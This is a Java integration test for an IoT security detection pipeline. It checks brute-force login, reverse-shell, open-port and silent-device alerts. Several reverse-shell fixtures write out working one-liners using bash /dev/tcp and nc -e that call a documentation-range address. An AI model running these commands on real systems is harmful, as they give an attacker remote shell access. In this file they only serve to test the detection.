package io.vigil.detection.feed;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.vigil.contracts.feed.EventFeed;
import io.vigil.contracts.feed.FeedBatch;
import io.vigil.contracts.feed.FeedEvent;
import io.vigil.contracts.feed.FeedMessage;
import io.vigil.detection.stateful.SilenceScan;
import io.vigil.testing.TestDatabase;
import io.vigil.testing.TestHub;
import jakarta.inject.Inject;
import io.vigil.testing.TestMqttClient;
import io.vigil.testing.VigilTestResource;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/** Over the real broker and PostgreSQL: feed messages in, alerts, recommendations and notices out. */
@QuarkusTest
@QuarkusTestResource(VigilTestResource.class)
class DetectionPipelineTest {

    static final String HUB = TestHub.RESOURCE_ID;
    private static final ObjectMapper JSON = TestHub.JSON;
    private static final Duration PATIENCE = Duration.ofSeconds(20);
    private static TestMqttClient ingest;
    private static TestMqttClient twin;

    @BeforeAll
    static void connect() {
        ingest = TestMqttClient.connect();
        twin = TestMqttClient.connect();
        twin.subscribe("vigil/v1/alerts/#");
        twin.subscribe("vigil/v1/recommendations/#");
    }

    @AfterAll
    static void disconnect() {
        ingest.close();
        twin.close();
    }

    @Test
    void eightFailuresFromOneAddressWithinTwoMinutesIsABruteForce() {
        Instant start = Instant.now().minusSeconds(300);
        publish("bf-8", logins(start, 8, Duration.ofSeconds(10), "Fail", i -> "203.0.113.9"));
        awaitAlert("bf-8", "IoT_Bruteforce_Fail");
        assertThat(alertExtendedProperties("bf-8", "IoT_Bruteforce_Fail")).contains("\"DeviceId\":\"bf-8\"")
                .contains("203.0.113.9");
    }

    @Test
    void failuresSplitAcrossMessagesThatArriveOutOfOrderStillCount() {
        Instant start = Instant.now().minusSeconds(400);
        List<FeedEvent> failures = logins(start, 8, Duration.ofSeconds(5), "Fail", i -> "203.0.113.77");
        List<FeedEvent> success = logins(start.plusSeconds(50), 1, Duration.ZERO, "Success", i -> "203.0.113.77");
        publish("bf-split", success);
        publish("bf-split", failures.subList(4, 8));
        publish("bf-split", failures.subList(0, 4));
        awaitAlert("bf-split", "IoT_Bruteforce_Fail");
        awaitAlert("bf-split", "IoT_Bruteforce_Success");
    }

    @Test
    void aRemoteLoginWithoutFailuresIsNothing() {
        publish("login-ok", logins(Instant.now().minusSeconds(30), 1, Duration.ZERO, "Success", i -> "198.51.100.80"));
        publish("login-ok", List.of(process(Instant.now().minusSeconds(20), "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1")));
        awaitAlert("login-ok", "IoT_ReverseShell");
        assertThat(TestDatabase.count("SELECT count(*) FROM workspace.security_alert WHERE device_id = 'login-ok'"
                + " AND alert_type LIKE 'IoT_Bruteforce%'")).isZero();
    }

    @Test
    void sevenFailuresSpreadOutOrFromManyAddressesAreNot() {
        Instant start = Instant.now().minusSeconds(3600);
        publish("bf-7", logins(start, 7, Duration.ofSeconds(10), "Fail", i -> "203.0.113.10"));
        publish("bf-spread", logins(start, 8, Duration.ofSeconds(75), "Fail", i -> "203.0.113.11"));
        publish("bf-many", logins(start, 8, Duration.ofSeconds(5), "Fail", i -> "203.0.113." + (20 + i)));
        for (String device : List.of("bf-7", "bf-spread", "bf-many")) {
            awaitAlert(device, "IoT_DeviceOnboarded");
        }
        assertThat(TestDatabase.count("SELECT count(*) FROM workspace.security_alert WHERE device_id IN ('bf-7','bf-spread','bf-many')"
                + " AND alert_type LIKE 'IoT_Bruteforce%'")).isZero();
    }

    @Test
    void aSuccessAfterTheFailuresIsASuccessfulBruteForce() {
        Instant start = Instant.now().minusSeconds(200);
        List<FeedEvent> events = logins(start, 8, Duration.ofSeconds(5), "Fail", i -> "198.51.100.4");
        events.addAll(logins(start.plusSeconds(60), 1, Duration.ZERO, "Success", i -> "198.51.100.4"));
        publish("bf-success", events);
        awaitAlert("bf-success", "IoT_Bruteforce_Success");
        assertThat(TestDatabase.query("SELECT alert_severity, display_name, resource_id, provider_name, product_name"
                + " FROM workspace.security_alert WHERE device_id = ? AND alert_type = 'IoT_Bruteforce_Success'", "bf-success"))
                .first().satisfies(row -> {
                    assertThat(row.get("alert_severity")).isEqualTo("High");
                    assertThat(row.get("resource_id")).isEqualTo(HUB);
                    assertThat(row.get("provider_name")).isEqualTo("IoTSecurity");
                    assertThat(row.get("product_name")).isEqualTo("Azure Security Center for IoT");
                });
        await().atMost(PATIENCE).until(() -> twin.received().stream().anyMatch(m ->
                m.topic().equals("vigil/v1/alerts/vigil-hub/bf-success") && m.text().contains("IoT_Bruteforce_Success")));
    }

    @Test
    void repeatsUpdateOneAlertAndARedeliveryChangesNothing() throws Exception {
        Instant now = Instant.now();
        FeedEvent first = process(now.minusSeconds(30), "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1");
        FeedEvent second = process(now.minusSeconds(10), "nc -e /bin/sh 203.0.113.5 4444");
        publish("rs-1", List.of(first));
        awaitAlert("rs-1", "IoT_ReverseShell");
        publish("rs-1", List.of(first));
        publish("rs-1", List.of(second));
        await().atMost(PATIENCE).until(() -> TestDatabase.count("SELECT count(*) FROM workspace.security_alert"
                + " WHERE device_id = 'rs-1' AND alert_type = 'IoT_ReverseShell'") == 2);
        Map<String, Object> state = TestDatabase.query("SELECT hit_count, start_time, end_time FROM detection.alert_state"
                + " WHERE device_id = 'rs-1' AND alert_type = 'IoT_ReverseShell'").get(0);
        assertThat(state.get("hit_count")).isEqualTo(2L);
        assertThat(TestDatabase.count("SELECT count(DISTINCT system_alert_id) FROM workspace.security_alert"
                + " WHERE device_id = 'rs-1' AND alert_type = 'IoT_ReverseShell'")).isEqualTo(1);
        assertThat(TestDatabase.count("SELECT count(*) FROM workspace.security_alert WHERE device_id = 'rs-1'"
                + " AND alert_type = 'IoT_ReverseShell' AND end_time > start_time")).isEqualTo(1);
    }

    @Test
    void theSameEventTwiceInARowCountsOnceEvenInOneBatch() throws Exception {
        FeedEvent shell = process(Instant.now().minusSeconds(5), "bash -i >& /dev/tcp/203.0.113.6/4444 0>&1");
        publish("rs-twice", List.of(shell));
        publish("rs-twice", List.of(shell));
        awaitAlert("rs-twice", "IoT_ReverseShell");
        Thread.sleep(1000);
        assertThat(TestDatabase.count("SELECT max(hit_count) FROM detection.alert_state WHERE device_id = 'rs-twice'")).isEqualTo(1);
    }

    @Test
    void anOpenPortIsActiveUntilALaterSnapshotNoLongerShowsIt() {
        Instant now = Instant.now();
        publish("ports-1", List.of(listeningPorts(now.minusSeconds(60), "0.0.0.0", "23", "127.0.0.1", "5432")));
        await().atMost(PATIENCE).until(() -> "Active".equals(recommendationState("ports-1", "IoT_OpenPorts")));
        assertThat(TestDatabase.query("SELECT recommendation_additional_data::text AS details FROM workspace.security_recommendation"
                + " WHERE device_id = 'ports-1'").get(0).get("details")).asString().contains("0.0.0.0:23").doesNotContain("5432");

        publish("ports-1", List.of(listeningPorts(now, "127.0.0.1", "5432")));
        await().atMost(PATIENCE).until(() -> "Resolved".equals(recommendationState("ports-1", "IoT_OpenPorts")));
        assertThat(TestDatabase.count("SELECT count(*) FROM detection.recommendation_change WHERE device_id = 'ports-1'")).isEqualTo(2);
        await().atMost(PATIENCE).until(() -> twin.received().stream().anyMatch(m ->
                m.topic().equals("vigil/v1/recommendations/vigil-hub/ports-1") && m.text().contains("\"state\":\"Resolved\"")));
    }

    @Inject
    SilenceScan silence;

    @Test
    void aDeviceQuietForThreeDaysIsSilentOnceUntilItSpeaksAgain() throws Exception {
        TestDatabase.execute("INSERT INTO detection.device (hub, device_id, first_seen, last_seen)"
                + " VALUES (?, 'quiet-1', now() - interval '10 days', now() - interval '73 hours')", HUB);
        TestDatabase.execute("INSERT INTO detection.device (hub, device_id, first_seen, last_seen)"
                + " VALUES (?, 'chatty-1', now() - interval '10 days', now() - interval '71 hours')", HUB);
        silence.scan().toCompletionStage().toCompletableFuture().get(20, java.util.concurrent.TimeUnit.SECONDS);
        silence.scan().toCompletionStage().toCompletableFuture().get(20, java.util.concurrent.TimeUnit.SECONDS);
        assertThat(TestDatabase.count("SELECT count(*) FROM workspace.security_alert WHERE device_id = 'quiet-1'"
                + " AND alert_type = 'IoT_DeviceSilent'")).isEqualTo(1);
        assertThat(TestDatabase.count("SELECT count(*) FROM workspace.security_alert WHERE device_id = 'chatty-1'")).isZero();
    }

    private static String recommendationState(String device, String name) {
        var rows = TestDatabase.query("SELECT recommendation_state FROM workspace.security_recommendation"
                + " WHERE device_id = ? AND recommendation_name = ?", device, name);
        return rows.isEmpty() ? null : (String) rows.get(0).get("recommendation_state");
    }

    private static void awaitAlert(String device, String type) {
        await().atMost(PATIENCE).until(() -> TestDatabase.count("SELECT count(*) FROM workspace.security_alert"
                + " WHERE device_id = ? AND alert_type = ?", device, type) > 0);
    }

    private static String alertExtendedProperties(String device, String type) {
        return (String) TestDatabase.query("SELECT extended_properties FROM workspace.security_alert WHERE device_id = ?"
                + " AND alert_type = ? ORDER BY record_id DESC LIMIT 1", device, type).get(0).get("extended_properties");
    }

    private static void publish(String device, List<FeedEvent> events) {
        FeedMessage message = new FeedMessage(HUB, device, null, "agent", "1.0", Instant.now(), events);
        try {
            ingest.publish(EventFeed.topic("vigil-hub"), JSON.writeValueAsBytes(FeedBatch.of(message)));
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    private static List<FeedEvent> logins(Instant start, int count, Duration spacing, String result,
                                          java.util.function.IntFunction<String> address) {
        List<FeedEvent> events = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            ObjectNode item = JSON.createObjectNode().put("ProcessId", 700 + i).put("UserName", "admin")
                    .put("Operation", "PAM:authentication").put("Executable", "/usr/sbin/sshd")
                    .put("RemoteAddress", address.apply(i)).put("RemotePort", "5" + i).put("Result", result);
            events.add(event("Login", "Triggered", start.plus(spacing.multipliedBy(i)), List.of(item)));
        }
        return events;
    }

    private static FeedEvent process(Instant at, String commandLine) {
        ObjectNode item = JSON.createObjectNode().put("Executable", "/bin/bash").put("CommandLine", commandLine)
                .put("ProcessId", 4000).put("ParentProcessId", 1).put("UserId", "0").put("UserName", "root");
        return event("ProcessCreate", "Triggered", at, List.of(item));
    }

    private static FeedEvent listeningPorts(Instant at, String... addressPortPairs) {
        List<ObjectNode> items = new ArrayList<>();
        for (int i = 0; i < addressPortPairs.length; i += 2) {
            items.add(JSON.createObjectNode().put("LocalAddress", addressPortPairs[i]).put("LocalPort", addressPortPairs[i + 1])
                    .put("Protocol", "tcp"));
        }
        return event("ListeningPorts", "Periodic", at, items);
    }

    private static FeedEvent event(String name, String category, Instant at, List<ObjectNode> items) {
        return new FeedEvent(UUID.randomUUID().toString(), name, category, "Security", items.isEmpty(), at, at.toString(), items);
    }
}
